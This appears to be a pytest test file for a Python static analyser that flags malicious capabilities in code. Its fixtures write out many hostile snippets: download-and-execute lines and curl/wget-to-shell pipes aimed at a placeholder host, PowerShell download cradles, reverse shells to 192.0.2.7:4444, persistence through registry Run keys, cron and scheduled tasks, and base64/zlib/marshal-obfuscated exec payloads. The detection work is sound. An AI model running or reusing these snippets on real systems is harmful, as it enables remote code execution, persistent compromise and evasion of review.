"""What attackers run, written for Python: fetched, decoded or hidden code, and what stays behind."""

from __future__ import annotations

import base64
import marshal
import zlib

import pytest

from fimci.model import Capability
from fimci.readers.code import python
from fimci.readers.code.python_syntax.program import program

DOWNLOAD = """
import requests
exec(requests.get("https://files.invalid/a.py").text)  # <<
---
import urllib.request
exec(urllib.request.urlopen("https://files.invalid/a.py").read())  # <<
---
from urllib.request import urlopen as _u
exec(_u("https://files.invalid/a.py").read().decode("utf-8"))  # <<
---
__import__("builtins").exec(__import__("requests").get("https://files.invalid/a.py").text)  # <<
---
import requests, base64
exec(base64.b64decode(requests.get("https://files.invalid/a").content))  # <<
---
import requests
code = requests.get("https://files.invalid/a.py").text
eval(compile(code, "<string>", "exec"))  # <<
---
import requests
def fetch(url):
    return requests.get(url).text
def main():
    exec(fetch("https://files.invalid/a.py"))  # <<
main()
---
import requests, os
r = requests.get("https://files.invalid/a.exe")
with open("a.exe", "wb") as f:
    f.write(r.content)
os.system("a.exe")  # <<
---
import requests, subprocess
open("/var/tmp/x", "wb").write(requests.get("https://files.invalid/x").content)
subprocess.Popen(["/var/tmp/x"])  # <<
---
import urllib.request, os
urllib.request.urlretrieve("https://files.invalid/a.exe", "a.exe")
os.startfile("a.exe")  # <<
---
from urllib.request import urlretrieve
import subprocess, os
path = os.path.join(os.environ["TEMP"], "a.exe")
urlretrieve("https://files.invalid/a.exe", path)
subprocess.call(path)  # <<
---
import os
os.system("curl https://files.invalid/a.sh | sh")  # <<
---
import subprocess
subprocess.run("wget -qO- https://files.invalid/a.sh | bash", shell=True)  # <<
---
import subprocess
quiet = subprocess.DEVNULL
subprocess.Popen(["bash", "-c", "curl -fsSL https://files.invalid/a.sh | bash"], stdout=quiet)  # <<
---
import os
url = "https://files.invalid/a"
os.system(f"curl -o /var/tmp/a {url} && chmod +x /var/tmp/a && /var/tmp/a")  # <<
---
import os
os.system("powershell -c \\"iwr https://files.invalid/a.exe -OutFile a.exe; Start-Process a.exe\\"")  # <<
---
import os
os.system("powershell -c \\"IEX(New-Object Net.WebClient).DownloadString('https://files.invalid/a')\\"")  # <<
---
import requests, ctypes
data = requests.get("https://files.invalid/a.dll").content
open("a.dll", "wb").write(data)
ctypes.CDLL("a.dll")  # <<
---
import httpx, pickle
pickle.loads(httpx.get("https://files.invalid/a").content)  # <<
---
import requests, types, marshal
f = types.FunctionType(marshal.loads(requests.get("https://files.invalid/a").content), globals())  # <<
f()
---
import requests, importlib.util
open("/var/tmp/m.py", "w").write(requests.get("https://files.invalid/m.py").text)
spec = importlib.util.spec_from_file_location("m", "/var/tmp/m.py")  # <<
---
import socket
s = socket.socket()
s.connect(("192.0.2.7", 4444))
exec(s.recv(4096))  # <<
---
import socket, subprocess, os
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("192.0.2.7", 4444))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
os.dup2(s.fileno(), 2)
subprocess.call(["/bin/sh", "-i"])  # <<
---
import socket, os, pty
s = socket.socket()
s.connect(("192.0.2.7", 4444))
[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]
pty.spawn("/bin/bash")  # <<
---
import socket, subprocess
s = socket.socket()
s.connect(("192.0.2.7", 4444))
while True:
    cmd = s.recv(1024).decode()
    out = subprocess.getoutput(cmd)  # <<
    s.send(out.encode())
---
import os
os.system("bash -i >& /dev/tcp/192.0.2.7/4444 0>&1")  # <<
"""

TAMPERING = """
import sys
class Hook:
    def find_spec(self, name, path, target=None):
        return None
sys.meta_path.insert(0, Hook())  # <<
---
import builtins
real = builtins.open
def fake(*a, **k):
    return real(*a, **k)
builtins.open = fake  # <<
---
import builtins
setattr(builtins, "__import__", lambda *a: None)  # <<
---
__builtins__.open = print  # <<
---
import sys
sys.modules["requests"] = object()  # <<
"""

PROPAGATION = """
import os
os.system("python -m twine upload dist/* -u __token__ -p x")  # <<
---
import subprocess
subprocess.run(["twine", "upload", "dist/a.tar.gz"])  # <<
---
import subprocess, sys
subprocess.check_call([sys.executable, "-m", "twine", "upload", "dist/a.tar.gz"])  # <<
---
import os
os.system("git add . && git commit -m x && git push origin main")  # <<
"""

PERSISTENCE = """
import winreg
path = r"Software\\Microsoft\\Windows\\CurrentVersion\\Run"
key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, path, 0, winreg.KEY_SET_VALUE)
winreg.SetValueEx(key, "svc", 0, winreg.REG_SZ, "a.exe")  # <<
---
import os
os.system("(crontab -l; echo '@reboot /var/tmp/a') | crontab -")  # <<
---
import os
with open(os.path.expanduser("~/.bashrc"), "a") as f:  # <<
    f.write("x &")
---
from pathlib import Path
(Path.home() / ".config/systemd/user/a.service").write_text("[Service]")  # <<
---
import os, shutil
folder = "Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup"
shutil.copy("a.exe", os.path.join(os.environ["APPDATA"], folder))  # <<
---
import subprocess
subprocess.run("schtasks /create /tn a /tr a.exe /sc onlogon", shell=True)  # <<
---
import os, site
open(os.path.join(site.getsitepackages()[0], "sitecustomize.py"), "w").write("x")  # <<
"""

CODE = b"import os\nos.system('id')\n"
B64 = base64.b64encode(CODE).decode()
NEST = "_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))"
SHELL = base64.b64encode(b"curl https://files.invalid | sh").decode()
B85 = base64.b85encode(zlib.compress(CODE))
DUMPED = base64.b64encode(marshal.dumps(1))
PAYLOADS = [
    f"import base64\nexec(base64.b64decode({B64!r}))",
    f"exec(__import__('base64').b64decode({B64!r}).decode())",
    f"import base64\neval(compile(base64.b64decode({B64!r}), '<x>', 'exec'))",
    f"from base64 import b64decode as _\n__builtins__.exec(_({B64!r}))",
    f"import base64\nx = {B64[:20]!r}\ny = {B64[20:]!r}\nexec(base64.b64decode(x + y))",
    f"import base64\nx = [{B64[:20]!r}, {B64[20:]!r}]\nexec(base64.b64decode(''.join(x)))",
    f"import base64\nd = getattr(base64, 'b64' + 'decode')\n(lambda c: exec(c))(d({B64!r}))",
    f"exec(bytes.fromhex({CODE.hex()!r}))",
    f"import binascii\nexec(binascii.unhexlify({CODE.hex()!r}))",
    f"import codecs\nexec(codecs.decode({CODE.hex()!r}, 'hex'))",
    f"import zlib\nexec(zlib.decompress({zlib.compress(CODE)!r}))",
    f"import zlib, base64\nexec(zlib.decompress(base64.b85decode({B85!r})))",
    f"{NEST}\nexec((_)({base64.b64encode(zlib.compress(CODE))[::-1]!r}))",
    f"import marshal, base64\nexec(marshal.loads(base64.b64decode({DUMPED!r})))",
    f"import marshal, zlib\nexec(marshal.loads(zlib.decompress({zlib.compress(marshal.dumps(1))!r})))",
    f"exec(({int.from_bytes(CODE, 'big')}).to_bytes({len(CODE)}, 'big'))",
    f"exec(int.to_bytes({int.from_bytes(CODE, 'big')}, {len(CODE)}, 'big').decode())",
    "from cryptography.fernet import Fernet\nexec(Fernet(b'k').decrypt(b'gAAAAABk'))",
    "from Crypto.Cipher import AES\nc = AES.new(b'k' * 16, AES.MODE_CBC)\nexec(c.decrypt(b'x' * 64))",
    f"import base64\ndef d(s):\n    return base64.b64decode(s)\ndef r(s):\n    exec(d(s))\nr({B64!r})",
    f"import base64\nfor part in [{B64!r}]:\n    exec(base64.b64decode(part))",
    f"import base64, pickle\npickle.loads(base64.b64decode({B64!r}))",
    f"import base64\nlist(map(exec, [base64.b64decode({B64!r})]))",
    f"import base64, functools\nfunctools.partial(exec, base64.b64decode({B64!r}))()",
    f"import base64, subprocess, sys\nsubprocess.run([sys.executable, '-c', base64.b64decode({B64!r})])",
    f"import os, base64\nos.system('python3 -c \"' + base64.b64decode({B64!r}).decode() + '\"')",
    f"import os\nos.system('echo {SHELL} | base64 -d | sh')",
    "import os\nos.system('powershell -enc SQBFAFgAIABhAGIAYwBkAGUAZgA=')",
    "from PIL import Image\nim = Image.open('a.png')\nd = ''.join(chr(p) for p in im.getdata())\nexec(d)",
]


def cases(table: str) -> list[str]:
    return [text.strip() + "\n" for text in table.split("\n---\n")]


def lines(text: str, name: str) -> list[int]:
    found = python.read("a.py", text.encode())
    return [one.at.line for one in found if isinstance(one, Capability) and one.name == name]


@pytest.mark.parametrize(
    ("name", "text"),
    [
        (name, text)
        for name, table in (
            ("download-and-run", DOWNLOAD),
            ("module-tampering", TAMPERING),
            ("self-propagation", PROPAGATION),
            ("persistence", PERSISTENCE),
        )
        for text in cases(table)
    ],
)
def test_what_is_run_or_stays_is_told_at_its_line(name: str, text: str) -> None:
    marked = [number for number, line in enumerate(text.splitlines(), 1) if line.endswith("# <<")]
    assert set(marked) <= set(lines(text, name))


@pytest.mark.parametrize("text", PAYLOADS)
def test_hidden_code_that_is_run_is_told(text: str) -> None:
    assert lines(text, "encoded-payload")


SETUP = """
from setuptools import setup
from setuptools.command.{0} import {0}
import os
class Step({0}):
    def run(self):
        os.system("id")
setup(cmdclass={{"{1}": Step}})
"""


@pytest.mark.parametrize("command", ["install", "develop", "egg_info", "build_py", "sdist", "bdist_wheel"])
def test_commands_of_an_installation_run_at_install(command: str) -> None:
    assert phase(SETUP.format(command, command), "shell") == "install"


def test_what_an_owner_does_by_hand_does_not_run_at_install() -> None:
    assert phase(SETUP.format("install", "upload"), "shell") == "call"
    asked = "import os, sys\nif sys.argv[-1] == 'publish':\n    os.system('twine upload dist/*')\n"
    assert phase(asked, "shell") == "call"
    assert phase(asked, "self-propagation") == ""
    assert phase("import os, sys\nif 'install' in sys.argv:\n    os.system('id')\n", "shell") == "install"


def phase(text: str, name: str) -> str:
    found = python.read("p/setup.py", text.encode())
    return next((one.phase for one in found if isinstance(one, Capability) and one.name == name), "")


@pytest.mark.parametrize(
    ("text", "targets"),
    [
        ("import a.b, os\nfrom .c import d\nfrom . import e\nos.system('id')", ["a.b", "os", ".c", ".e"]),
        ("import importlib\nimportlib.import_module('x.y')", ["importlib", "x.y"]),
        ("__import__('x')", ["x"]),
        ("import runpy\nrunpy.run_path('x.py')", ["runpy", "./x.py"]),
        ("import runpy\nrunpy.run_module('x.y')", ["runpy", "x.y"]),
        ("import subprocess, sys\nsubprocess.run([sys.executable, 'x.py'])", ["subprocess", "sys", "x.py"]),
        ("import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'x'])", ["subprocess", "sys", "x"]),
        ("import os\nos.system('python3 -u x.py --y')", ["os", "x.py"]),
        ("exec(open('x.py').read())", ["./x.py"]),
        (
            "import os\nd = os.path.dirname(__file__)\nexec(open(os.path.join(d, 'x.py')).read())",
            ["os", "./x.py"],
        ),
        ("with open('v.py') as f:\n    exec(f.read())", ["./v.py"]),
    ],
)
def test_what_is_loaded_is_referred_to(text: str, targets: list[str]) -> None:
    found = [reference.target for reference in program(text.encode(), "a.py").references]
    assert found == targets
